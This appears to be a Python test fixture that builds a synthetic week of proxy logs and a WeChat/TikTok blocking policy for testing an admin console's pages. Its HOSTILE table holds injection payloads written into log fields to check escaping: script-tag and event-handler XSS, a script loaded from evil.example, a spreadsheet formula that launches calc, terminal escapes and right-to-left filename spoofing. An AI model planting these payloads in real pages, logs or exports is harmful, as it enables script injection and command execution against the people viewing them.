"""A week of a company's log, the same each time: what the tests of the console's pages look at.

Decisions are those of a policy of its own, which is stored beside the log. Some records are hostile: what whoever made
the request could write into hosts, users, paths and agents.
"""

import random
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from ipaddress import ip_address
from pathlib import Path

from flask import Flask

from console.signed_in import NOW, a_console
from embargo.console.context import KEY, Console
from embargo.core.decision import Decision, Verdict
from embargo.core.inquiry import Inquiry, answer
from embargo.core.request import Surface
from embargo.core.rules import Policy
from embargo.journal.event import Event, Judged, Outcome, PolicyChanged, ProcessChanged
from embargo.journal.files import STEM
from embargo.journal.livefile import LiveFile
from embargo.journal.record import Encoder
from embargo.policy.load import Loaded, load
from recorded import EXCEPTION, OBSERVER

POLICY = """\
version: 1
settings:
  organization: Example Ltd
  bound_by: [eo-13943]
authorities:
  eo-13943:
    title: "Executive Order 13943: Addressing the Threat Posed by WeChat"
    url: https://www.federalregister.gov/d/2020-17700
    timeline: {2020-08-06: issued, 2020-09-20: in-force}
apps:
  wechat:
    name: WeChat
    named_in: eo-13943
    endpoints:
      - {domain: weixin.qq.com, role: messaging, evidence: "https://www.wechat.com/en/faq.html"}
      - {domain: wechat.com, role: web, evidence: "https://www.wechat.com/"}
      - {domain: wx.qlogo.cn, role: cdn}
  qq:
    name: QQ
    endpoints: [{domain: qq.com, role: web}, {domain: gtimg.cn, role: cdn, shared: true}]
  alipay:
    name: Alipay
    endpoints: [{domain: alipay.com, role: payment}, {domain: alipayobjects.com, role: cdn, shared: true}]
  tiktok:
    name: TikTok
    endpoints: [{domain: tiktok.com, role: api}, {domain: tiktokcdn.com, role: cdn}]
  temu:
    name: Temu
    endpoints: [temu.com]
groups:
  research: {clients: [10.20.9.0/24]}
rules:
  # Anything that serves others as well is only noted: a hit of it is no use of the app.
  - id: shared-infrastructure
    apps: all
    shared: true
    action: log

  - id: research-may
    apps: [tiktok]
    groups: [research]
    action: allow
    reason: the research group studies it

  - id: bound-by-order
    apps: {named_in: eo-13943}
    authority: in-force
    action: block
    reason: Executive Order 13943
    message: WeChat is not available on this network.

  - id: no-short-video
    apps: [tiktok]
    action: block

  - id: shopping-trial
    apps: [temu]
    action: block
    shadow: true
"""
PLACES = (  # URL, how often
    ("https://short.weixin.qq.com/mmtls/00", 30),
    ("https://web.wechat.com/", 8),
    ("https://wx.qlogo.cn/mmhead/1", 4),
    ("https://im.qq.com/", 7),
    ("https://i.gtimg.cn/club/1.png", 9),
    ("https://mobilegw.alipay.com/mgw.htm", 12),
    ("https://gw.alipayobjects.com/os/lib.js", 6),
    ("https://www.tiktok.com/@someone", 10),
    ("https://v16.tiktokcdn.com/a.mp4", 5),
    ("https://www.temu.com/", 5),
)
CLIENTS = tuple(f"10.20.{net}.{host}" for net in (3, 4, 9) for host in (17, 18, 40, 41, 77))
USERS = ("alice", "bob", "carol", None)
AGENTS = ("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "MicroMessenger Client", None)
HOSTILE = {  # what it is: members of the event
    "html": {"user": "<b>bold</b><script>alert(1)</script>", "target": "/<img src=x onerror=alert(2)>"},
    "attribute": {"user": '" onmouseover="alert(3)', "user_agent": "'><script src=//evil.example/x.js></script>"},
    "formula": {"user": "=cmd|' /C calc'!A0", "user_agent": "@SUM(1+1)*cmd"},
    "plus": {"user": "+1+1", "target": "/-2+3"},
    "terminal": {"user": "\x1b[2J\x1b[31mred", "target": "/\x9b31m\x07"},
    "right to left": {"user": "\u202egnp.exe", "target": "/\u2066evil\u2069"},
    "star": {"user": "a*", "host": "*.qq.com", "sni": None},
    "quotes": {"user": 'it\'s "so" \\ '},
    "template": {"user": "{{ 1111*11 }}{% raw %}"},
    "long": {"host": "a" * 8192 + ".qq.com", "target": "/" + "b" * 8192, "sni": None},
    "no host": {"host": "<script>alert(4)</script>", "sni": None},
}


def a_policy(directory: Path) -> Loaded:
    """The company's policy, in *directory*."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "site.yaml"
    path.write_text(POLICY)
    return load([path])


def a_week(directory: Path, count: int = 120) -> Flask:
    """A console on that week below *directory*, all of it in the store."""
    write(directory / "log", a_policy(directory / "policy"), count)
    return read(a_console(directory, policy=(directory / "policy/site.yaml",)))


def read(app: Flask) -> Flask:
    """*app*, when its store holds all of the log: a page waits less long for that than a busy machine may take."""
    console: Console = app.extensions[KEY]
    console.store.catch_up()
    return app


def write(directory: Path, loaded: Loaded, count: int = 1200, seed: int = 7) -> list[Event]:
    """Write the log into *directory*; what happened, in order."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "policies").mkdir(exist_ok=True)
    (directory / "policies" / loaded.digest).write_bytes(b"".join(loaded.bundle()))
    events = sorted(_events(loaded, count, random.Random(seed)), key=lambda event: event.time)
    encoder = Encoder(OBSERVER)
    file = LiveFile.open(directory, STEM)
    try:
        file.append(
            [
                encoder.line(event, sequence=number, identifier=f"019dc9a8-0000-7000-9000-{number:012x}")
                for number, event in enumerate(events, 1)
            ]
        )
    finally:
        file.close()
    return events


def _events(loaded: Loaded, count: int, chance: random.Random) -> Iterator[Event]:
    policy = loaded.policy
    begin = NOW - timedelta(days=7)
    yield ProcessChanged(time=begin, action="start", policy=loaded.digest)
    yield PolicyChanged(time=begin, outcome=Outcome.SUCCESS, old=None, new=loaded.digest, files=("site.yaml",))
    yield PolicyChanged(
        time=NOW - timedelta(days=2),
        outcome=Outcome.FAILURE,
        old=loaded.digest,
        new=None,
        files=("site.yaml",),
        problems=("site.yaml:12:9: unknown-role apps.wechat.endpoints[0].role: found 'msg'",),
    )
    yield replace(EXCEPTION, time=NOW - timedelta(days=1), outcome=Outcome.SUCCESS, apps=("alipay",))
    urls, weights = zip(*PLACES, strict=True)
    for number in range(count):
        day = chance.choices(range(7), (6, 6, 1, 1, 6, 7, 8))[0]
        hour = chance.choices(range(24), [1] * 7 + [6] * 11 + [2] * 6)[0]
        time = begin + timedelta(days=day, hours=hour, seconds=chance.randrange(3600), milliseconds=number % 1000)
        client = chance.choice(CLIENTS)
        user = USERS[sum(map(ord, client)) % len(USERS)]
        url = chance.choices(urls, weights)[0]
        for repeat in range(chance.choice((1, 1, 1, 2, 9))):
            when = min(time + timedelta(seconds=5 * repeat), NOW - timedelta(seconds=1))
            yield _judged(policy, number * 10 + repeat, url, client, user, when, chance.choice(AGENTS), f"c-{number}")
    for number, members in enumerate(HOSTILE.values()):
        time = NOW - timedelta(minutes=5 * number + 2)
        event = _judged(policy, 900_000 + number, PLACES[0][0], "10.66.6.6", None, time, AGENTS[0], f"h-{number}")
        yield replace(event, **members)  # type: ignore[arg-type]


def _judged(
    policy: Policy,
    number: int,
    url: str,
    client: str,
    user: str | None,
    time: object,
    agent: str | None,
    connection: str,
) -> Judged:
    decision, surface = _decided(policy, url, client, user, time)
    host = url.split("/")[2]
    seen = surface in (Surface.HTTP, Surface.WEBSOCKET)
    return Judged(
        id=f"019dc9a8-0000-7000-8000-{number:012x}",
        time=time,  # type: ignore[arg-type]
        decision=decision,
        surface=surface,
        connection=connection,
        policy=policy.digest,
        client=client,
        client_port=40_000 + number % 20_000,
        user=user,
        identity_source="proxyauth" if user else None,
        destination=host,
        destination_port=443,
        scheme="https" if seen else None,
        host=host if seen else None,
        target="/" + url.split("/", 3)[3] if seen else None,
        method="GET" if seen else "CONNECT" if surface is Surface.CONNECT else None,
        status=451 if decision.verdict is Verdict.BLOCK else None,
        sni=host if surface is not Surface.CONNECT else None,
        protocol="http",
        user_agent=agent,
    )


_KNOWN: dict[tuple[str, str, str | None], tuple[Decision, Surface]] = {}


def _decided(policy: Policy, url: str, client: str, user: str | None, time: object) -> tuple[Decision, Surface]:
    key = (url, client, user)
    if key not in _KNOWN:
        found = answer(policy, Inquiry(request=url, time=time, client=ip_address(client), user=user))  # type: ignore[arg-type]
        _KNOWN[key] = (found.decision, found.request.surface)
    return _KNOWN[key]
